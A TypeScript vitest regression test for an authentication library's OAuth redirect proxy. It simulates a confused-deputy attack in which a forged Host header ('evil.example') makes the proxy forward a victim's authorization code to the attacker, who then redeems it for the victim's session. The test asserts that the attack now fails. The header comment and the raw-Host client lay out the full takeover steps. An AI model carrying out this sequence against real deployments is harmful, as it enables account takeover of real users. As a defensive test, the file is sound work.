// Attacks: the redirect proxy (`redirectProxyUrl` / AUTH_REDIRECT_PROXY_URL) as a confused
// deputy. Failed before the fix (Express: account takeover); now a proxied sign-in starts only where
// the deployment's URL is fixed by configuration (AUTH_URL, or SvelteKit's adapter).
//
// The forwarding target travels in the proxy `state`, and it is this deployment's callback URL as
// computed from the request's Host (trustHost: the default outside production, on Vercel and CF
// Pages, and what every self-hosted deployment without AUTH_URL must set). An attacker who starts
// a sign-in with `Host: evil.example` gets a genuine, encrypted state whose forwarding target is
// http://evil.example/auth/callback/idp. They send the authorization URL (the real IdP, the real
// client) to a victim; the victim logs in at the IdP, the IdP returns the victim to the proxy,
// and the proxy forwards the victim's authorization code to the attacker's host. The attacker
// then redeems it at the same deployment, again with `Host: evil.example` (so the state is "ours"
// and not forwarded), with the PKCE/state cookies of step 1, and receives a session as the victim.
// Express takes the host from Express (`req.host`: the Host header unless `trust proxy` says
// otherwise); SvelteKit, since commit 9ea8822, from the URL its adapter built (ORIGIN), so the
// SvelteKit case now holds as long as the app sets ORIGIN (adapter-node without ORIGIN reads Host).

import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startDemoIdp } from '../../../../../../scripts/demo-idp.js';
import type { AuthConfig, OAuthConfig } from '../../types.js';
import { TEST_SECRET } from '../client.js';
import { loginAtIdp } from '../idp-browser.js';
import { Browser, INTEGRATIONS } from '../integrations.js';
import { attackWorld } from './flows.js';

const world = attackWorld();
let idp: { issuer: string; close: () => Promise<void> };

const CLIENT = { client_id: 'proxy-review', client_secret: 'proxy-review-secret-proxy-review-secret' };
const EVIL_HOST = 'evil.example:8443';

beforeAll(async () => {
	idp = await startDemoIdp({
		clients: [{ ...CLIENT, redirect_uris: INTEGRATIONS.map((name) => `${world.apps[name].origin}/auth/callback/idp`) }],
		accounts: [{ id: 'victim', email: 'victim@example.com', email_verified: true, name: 'Victim' }]
	});
});
afterAll(async () => {
	await idp?.close();
});

const quiet = { error: () => {}, warn: () => {}, debug: () => {} };

function provider(): OAuthConfig {
	return { id: 'idp', name: 'IdP', type: 'oidc', issuer: idp.issuer, clientId: CLIENT.client_id, clientSecret: CLIENT.client_secret };
}

/** The attacker's HTTP client: any Host header, a plain cookie jar. */
class RawClient {
	readonly jar = new Map<string, string>();
	async request(url: string, init: { host?: string; form?: Record<string, string> } = {}) {
		const target = new URL(url);
		const body = init.form ? new URLSearchParams(init.form).toString() : undefined;
		const headers: Record<string, string> = { host: init.host ?? target.host };
		if (this.jar.size) headers.cookie = [...this.jar].map(([k, v]) => `${k}=${v}`).join('; ');
		if (body !== undefined) {
			headers['content-type'] = 'application/x-www-form-urlencoded';
			headers['content-length'] = String(Buffer.byteLength(body));
			// the attacker's own request: SvelteKit's origin check wants its configured ORIGIN
			headers.origin = target.origin;
		}
		const answer = await new Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string }>((resolve, reject) => {
			const req = httpRequest(
				{ host: target.hostname, port: target.port, path: target.pathname + target.search, method: body ? 'POST' : 'GET', headers },
				(res) => {
					const chunks: Buffer[] = [];
					res.on('data', (c: Buffer) => chunks.push(c));
					res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
				}
			);
			req.on('error', reject);
			req.end(body);
		});
		const setCookies = ([] as string[]).concat(answer.headers['set-cookie'] ?? []);
		for (const line of setCookies) {
			const [pair] = line.split(';');
			const name = pair.slice(0, pair.indexOf('='));
			const value = pair.slice(pair.indexOf('=') + 1);
			if (/max-age=0/i.test(line) || value === '') this.jar.delete(name);
			else this.jar.set(name, value);
		}
		return { ...answer, location: answer.headers.location as string | undefined };
	}
}

describe.each(INTEGRATIONS)('%s: redirect proxy as a confused deputy', (integration) => {
	const why = integration === 'express' ? 'Express without AUTH_URL: the start is refused' : 'SvelteKit: the URL comes from ORIGIN';
	test(`a state minted under a forged Host does not make the proxy forward a victim's code to that host (${why})`, async () => {
		const app = world.apps[integration];
		const config: AuthConfig = {
			secret: TEST_SECRET,
			trustHost: true,
			redirectProxyUrl: `${app.origin}/auth`,
			providers: [provider()],
			logger: quiet
		};
		app.use(config);

		// 1. the attacker starts a sign-in at the deployment, naming their own host
		const attacker = new RawClient();
		const csrf = await attacker.request(`${app.origin}/auth/csrf`, { host: EVIL_HOST });
		const { csrfToken } = JSON.parse(csrf.body) as { csrfToken: string };
		const started = await attacker.request(`${app.origin}/auth/signin/idp`, { host: EVIL_HOST, form: { csrfToken, callbackUrl: '/' } });
		expect(started.status).toBe(302);
		const authorizationUrl = started.location as string;
		if (integration === 'express') {
			// the deployment's URL would come from the forged Host: no proxy state is made
			expect(new URL(authorizationUrl).searchParams.get('error')).toBe('OAuthSignin');
			return;
		}
		expect(new URL(authorizationUrl).searchParams.get('redirect_uri')).toBe(`${app.origin}/auth/callback/idp`);

		// 2. the victim opens the (genuine) authorization URL and logs in at the real IdP
		const atProxy = await loginAtIdp(authorizationUrl, { login: 'victim' });
		expect(atProxy.startsWith(`${app.origin}/auth/callback/idp?`)).toBe(true);

		// 3. the victim's browser reaches the proxy, which forwards the callback
		const victim = new Browser();
		const forwarded = await victim.request(atProxy);
		const forwardedTo = forwarded.headers.get('location') ?? '';
		const forwardedHost = URL.parse(forwardedTo, app.origin)?.host;

		// 4. the attacker's server received the code; they redeem it with the check cookies of step 1
		let attackerSession: unknown = null;
		if (forwardedHost === EVIL_HOST) {
			const stolen = new URL(forwardedTo);
			const redeemed = await attacker.request(`${app.origin}${stolen.pathname}${stolen.search}`, { host: EVIL_HOST });
			const sessionCookie = attacker.jar.get('kitgate.session-token');
			if (redeemed.status === 302 && sessionCookie) {
				// the session cookie is not bound to a host: use it on the real origin
				const page = await fetch(`${app.origin}/`, { headers: { cookie: `kitgate.session-token=${sessionCookie}` } });
				attackerSession = ((await page.json()) as { session: unknown }).session;
			}
		}
		console.log(`[${integration}] proxy forwarded the victim's callback to: ${forwardedTo}`);
		console.log(`[${integration}] attacker's session after redeeming the code: ${JSON.stringify(attackerSession)}`);

		expect(forwardedHost, 'the proxy must only forward to deployments it knows').not.toBe(EVIL_HOST);
		expect(attackerSession, 'the attacker must not hold a session as the victim').toBeNull();
	});
});
